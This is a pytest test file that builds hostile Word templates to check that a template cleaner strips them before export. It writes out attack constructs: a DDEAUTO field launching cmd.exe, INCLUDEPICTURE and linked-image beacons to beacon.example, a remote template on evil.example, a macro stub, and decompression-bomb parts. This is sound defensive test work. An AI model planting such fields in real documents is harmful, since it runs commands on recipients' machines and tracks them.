"""Hostile organisation templates: what must not reach an export is removed and named."""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path

import pytest

from ceopdesk.core.domain import Settings
from ceopdesk.core.errors import UserError
from ceopdesk.documents.docx_writer import check_template, default_template, write_docx
from ceopdesk.documents.template_clean import MAX_FILE, clean_template

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
V_NS = 'xmlns:v="urn:schemas-microsoft-com:vml"'
O_NS = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRET = "Jane Secret, 14 Hidden Lane"


def rels(*items: str) -> bytes:
    body = "".join(items)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


def field(code: str, shown: str = "x") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


INCLUDE_PICTURE = 'INCLUDEPICTURE "https://beacon.example/i.png" \\d'
DDE_AUTO = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
LINKED_PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/'
    '2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml'
    '/2006/picture"><pic:blipFill><a:blip r:link="rIdBeacon"/></pic:blipFill></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)


def hostile(tmp_path: Path, kinds: set[str], name: str = "hostile.docx") -> Path:
    """The shipped template with the chosen hostile additions, built as Word stores them."""
    target = tmp_path / name
    with zipfile.ZipFile(default_template()) as src, zipfile.ZipFile(target, "w") as dst:
        parts = {i.filename: src.read(i.filename) for i in src.infolist()}
        types = parts["[Content_Types].xml"].decode()
        doc_rels = parts["word/_rels/document.xml.rels"].decode()
        if "attached" in kinds:
            parts["word/settings.xml"] = (
                parts["word/settings.xml"]
                .replace(b"<w:settings ", f"<w:settings {R_NS} ".encode(), 1)
                .replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
            )
            parts["word/_rels/settings.xml.rels"] = rels(
                f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" '
                'Target="https://evil.example/remote.dotm" TargetMode="External"/>'
            )
        if "docvars" in kinds:
            parts["word/settings.xml"] = parts["word/settings.xml"].replace(
                b"</w:settings>",
                f'<w:docVars><w:docVar w:name="Owner" w:val="{SECRET}"/></w:docVars>'
                "</w:settings>".encode(),
            )
        if "beacon" in kinds:
            header = parts["word/header1.xml"].decode()
            if "xmlns:r=" not in header:
                header = header.replace("<w:hdr ", f"<w:hdr {R_NS} ", 1)
            include = field(INCLUDE_PICTURE)
            header = header.replace("</w:hdr>", f"<w:p>{include}{LINKED_PICTURE}</w:p></w:hdr>")
            parts["word/header1.xml"] = header.encode()
            parts["word/_rels/header1.xml.rels"] = rels(
                f'<Relationship Id="rIdBeacon" Type="{REL}/image" '
                'Target="https://beacon.example/pixel.png" TargetMode="External"/>'
            )
        body_extra = ""
        if "dde" in kinds:
            body_extra += f"<w:p>{field(DDE_AUTO)}</w:p>"
            body_extra += (
                '<w:p><w:fldSimple w:instr=" DDE excel sheet1 "><w:r><w:t>d</w:t></w:r>'
                "</w:fldSimple></w:p>"
            )
        if "tracked" in kinds:
            body_extra += (
                f'<w:p><w:ins w:id="1" w:author="{SECRET}" w:date="2026-01-01T00:00:00Z"><w:r>'
                f'<w:t>inserted</w:t></w:r></w:ins><w:del w:id="2" w:author="{SECRET}">'
                "<w:r><w:delText>deleted words</w:delText></w:r></w:del></w:p>"
            )
            parts["word/people.xml"] = (
                f'<w15:people xmlns:w15="x"><w15:person w15:author="{SECRET}"/></w15:people>'
            ).encode()
        if body_extra:
            parts["word/document.xml"] = parts["word/document.xml"].replace(
                b"<w:body>", f"<w:body>{body_extra}".encode(), 1
            )
        if "macro" in kinds:
            parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 AutoOpen Shell calc"
            doc_rels = doc_rels.replace(
                "</Relationships>",
                '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
            types = types.replace(
                "</Types>",
                '<Override PartName="/word/vbaProject.bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        if "glossary" in kinds:
            parts["word/glossary/document.xml"] = (
                f"<w:glossaryDocument {W_NS}><w:docParts><w:docPart><w:docPartBody><w:p><w:r>"
                f"<w:t>{SECRET}</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts>"
                "</w:glossaryDocument>"
            ).encode()
            doc_rels = doc_rels.replace(
                "</Relationships>",
                f'<Relationship Id="rIdG" Type="{REL}/glossaryDocument" '
                'Target="glossary/document.xml"/></Relationships>',
            )
            parts["customXml/item1.xml"] = f"<owner>{SECRET}</owner>".encode()
        header_extra = ""
        if "vml" in kinds:
            # A VML picture whose image is an outside address (o:href, src), and one whose
            # r:href names an outside relationship: Word fetches them when the file opens.
            header_extra += (
                f'<w:p><w:r><w:pict><v:shape {V_NS} {O_NS} id="s1" style="width:1pt;height:1pt">'
                '<v:imagedata o:href="https://beacon.example/vml.png" '
                'src="https://beacon.example/src.png" o:title=""/>'
                '<v:fill o:href="\\\\beacon.example\\share\\fill.png" type="frame"/>'
                "</v:shape></w:pict></w:r></w:p>"
                f'<w:p><w:r><w:pict><v:shape {V_NS} id="s2"><v:imagedata r:href="rIdVml"/>'
                "</v:shape></w:pict></w:r></w:p>"
            )
            parts["word/_rels/header1.xml.rels"] = rels(
                f'<Relationship Id="rIdVml" Type="{REL}/image" '
                'Target="https://beacon.example/vml-rel.png" TargetMode="External"/>'
            )
        if "page_include" in kinds:
            # The field's name is PAGE, but its code goes on (and across runs).
            header_extra += "<w:p>" + field('PAGE INCLUDEPICTURE "https://beacon.example/p.png"')
            header_extra += (
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
                '<w:r><w:instrText xml:space="preserve">\\* MERGEFORMAT INCLUDEPICTURE '
                '"https://beacon.example/q.png" \\d</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>2</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        if "nested_dde" in kinds:
            # A DDE field inside the code of a PAGE field, and one inside its shown result.
            header_extra += (
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
                + field(DDE_AUTO)
                + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                + field("DDE excel nested")
                + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:fldChar w:fldCharType="begin"/>'
                "</w:r><w:r><w:instrText> DDE simple </w:instrText></w:r><w:r>"
                '<w:fldChar w:fldCharType="end"/></w:r></w:fldSimple></w:p>'
            )
        if "big_picture" in kinds:
            # 19 MB that does not compress: the file itself is under the file limit.
            parts["word/media/big.png"] = random.Random(26).randbytes(19 * 1024 * 1024)
            parts["word/_rels/header1.xml.rels"] = rels(
                f'<Relationship Id="rIdBig" Type="{REL}/image" Target="media/big.png"/>'
            )
            if 'Extension="png"' not in types:
                types = types.replace(
                    "</Types>", '<Default Extension="png" ContentType="image/png"/></Types>'
                )
        if header_extra:
            header = parts["word/header1.xml"].decode()
            header = header.replace("</w:hdr>", f"{header_extra}</w:hdr>")
            parts["word/header1.xml"] = header.encode()
        if "zeros_header" in kinds:
            # 45 MB of zeros packed into a header part (a few tens of kilobytes in the file).
            parts["word/header1.xml"] = parts["word/header1.xml"] + b"\0" * (45 * 1024 * 1024)
        if "huge" in kinds:
            parts["word/media/huge.png"] = b"\0" * (60 * 1024 * 1024)
        parts["word/_rels/document.xml.rels"] = doc_rels.encode()
        parts["[Content_Types].xml"] = types.encode()
        for name, data in parts.items():
            dst.writestr(name, data, zipfile.ZIP_DEFLATED)
    return target


ALL = {"attached", "docvars", "beacon", "dde", "tracked", "macro", "glossary"}


def everything(path: Path) -> str:
    with zipfile.ZipFile(path) as package:
        return "\n".join(
            f"{n}\n" + package.read(n).decode("utf-8", "replace") for n in package.namelist()
        )


def test_a_hostile_template_exports_nothing_hostile(tmp_path, release):
    template = hostile(tmp_path, ALL)
    raw = everything(template)
    for needle in ("evil.example", "beacon.example", "DDEAUTO", "vbaProject", SECRET, "w:ins "):
        assert needle in raw  # the premise
    assert check_template(template) == []
    out = write_docx(release, Settings(template_path=str(template)), tmp_path / "r.docx", 1)
    text = everything(out)
    for needle in (
        "evil.example",
        "beacon.example",
        "INCLUDEPICTURE",
        "DDE",
        "vbaProject",
        SECRET,
        "glossary",
        "customXml",
        "docVar",
        "attachedTemplate",
        "w:ins ",
        "deleted words",
        "people.xml",
    ):
        assert needle not in text, needle
    assert "inserted" not in text or "w:ins" not in text
    assert "PAGE" in text and "NUMPAGES" in text  # the footer's page X of Y stays


def test_what_was_removed_is_said(tmp_path):
    removed = " | ".join(clean_template(hostile(tmp_path, ALL)).removed)
    for words in (
        "a link to an outside template (https://evil.example/remote.dotm)",
        "a picture linked from outside",
        "INCLUDEPICTURE fields",
        "DDEAUTO fields",
        "DDE fields",
        "macros",
        "tracked changes",
        "tracked-change authors",
        "document variables",
        "a glossary of building blocks",
        "custom XML",
    ):
        assert words in removed, words


@pytest.mark.parametrize("kind", sorted(ALL))
def test_each_hostile_kind_alone_is_removed(tmp_path, kind, release):
    template = hostile(tmp_path, {kind})
    assert clean_template(template).removed
    out = write_docx(release, Settings(template_path=str(template)), tmp_path / "r.docx", 1)
    assert SECRET not in everything(out) and "example/" not in everything(out)


def test_a_clean_template_loses_nothing(tmp_path):
    template = tmp_path / "plain.docx"
    template.write_bytes(default_template().read_bytes())
    assert clean_template(template).removed == ()


def test_a_template_that_unpacks_too_big_is_refused(tmp_path, release):
    template = hostile(tmp_path, {"huge"})
    assert template.stat().st_size < MAX_FILE  # zeros pack small: the expansion is the attack
    with pytest.raises(UserError, match="unpacks to"):
        write_docx(release, Settings(template_path=str(template)), tmp_path / "r.docx", 1)
    assert not (tmp_path / "r.docx").exists()


def test_a_template_file_too_big_is_refused(tmp_path):
    template = tmp_path / "big.docx"
    with open(template, "wb") as fh:
        fh.truncate(MAX_FILE + 1)
    with pytest.raises(UserError, match="is refused"):
        clean_template(template)


# Issue 26: five hostile kinds that still reached every export.
OUTSIDE = ("beacon.example", "INCLUDEPICTURE", "DDE", "o:href", "r:href")


@pytest.mark.parametrize("kind", ["vml", "page_include", "nested_dde"])
def test_outside_content_hidden_deeper_is_removed(tmp_path, kind, release):
    template = hostile(tmp_path, {kind})
    assert "beacon.example" in everything(template) or "DDE" in everything(template)
    out = write_docx(release, Settings(template_path=str(template)), tmp_path / "r.docx", 1)
    text = everything(out)
    for needle in OUTSIDE:
        assert needle not in text, needle
    assert "PAGE" in text and "NUMPAGES" in text  # the footer's own page X of Y stays
    assert clean_template(template).removed


@pytest.mark.parametrize(
    ("kind", "part"),
    [("big_picture", "word/media/big.png"), ("zeros_header", "word/header1.xml")],
)
def test_a_part_too_big_is_refused_by_name(tmp_path, kind, part, release):
    template = hostile(tmp_path, {kind})
    assert template.stat().st_size < MAX_FILE  # the file itself passes the file limit
    with pytest.raises(UserError) as caught:
        write_docx(release, Settings(template_path=str(template)), tmp_path / "r.docx", 1)
    message = caught.value.message
    assert part in message and message.count(". ") == 0 and message.endswith(".")
    assert not (tmp_path / "r.docx").exists()


def with_header(tmp_path: Path, snippet: str) -> Path:
    """The shipped template with ``snippet`` (paragraphs) added to its header."""
    target = tmp_path / "snippet.docx"
    with zipfile.ZipFile(default_template()) as src, zipfile.ZipFile(target, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "word/header1.xml":
                data = data.replace(b"</w:hdr>", snippet.encode() + b"</w:hdr>")
            dst.writestr(info.filename, data, zipfile.ZIP_DEFLATED)
    return target


def header_of(template: Path) -> str:
    data = clean_template(template).data
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read("word/header1.xml").decode()


@pytest.mark.parametrize(
    "code", [" PAGE ", " PAGE \\* MERGEFORMAT ", " page \\* roman ", " NUMPAGES \\# 0 "]
)
def test_a_plain_page_number_stays(tmp_path, code):
    header = header_of(with_header(tmp_path, f"<w:p>{field(code, 'SHOWN')}</w:p>"))
    assert "SHOWN" in header and code in header


@pytest.mark.parametrize(
    "snippet",
    [
        # Two fields in one run: the PAGE field's end and an INCLUDEPICTURE after it.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText>'
        '<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/>'
        '<w:fldChar w:fldCharType="begin"/>'
        '<w:instrText> INCLUDEPICTURE "https://beacon.example/x" </w:instrText>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # A field that never ends.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE '
        '</w:instrText></w:r><w:r><w:instrText>INCLUDEPICTURE "https://beacon.example/y"'
        "</w:instrText></w:r></w:p>",
        # Code after the shown result began.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r>'
        '<w:instrText>INCLUDEPICTURE "https://beacon.example/z"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        # A code outside any field, and a simple field's code that goes on.
        '<w:p><w:r><w:instrText>INCLUDEPICTURE "https://beacon.example/s"</w:instrText></w:r>'
        '<w:fldSimple w:instr=" PAGE INCLUDEPICTURE &quot;https://beacon.example/t&quot; ">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>",
        # DrawingML: a picture linked by an address written straight into the attribute.
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/'
        '2006/main" link="https://beacon.example/d"/></w:drawing></w:r></w:p>',
    ],
)
def test_outside_content_in_any_field_shape_is_removed(tmp_path, snippet):
    header = header_of(with_header(tmp_path, snippet))
    assert "beacon.example" not in header and "INCLUDEPICTURE" not in header
    assert "{organisation}" in header  # the rest of the header stays
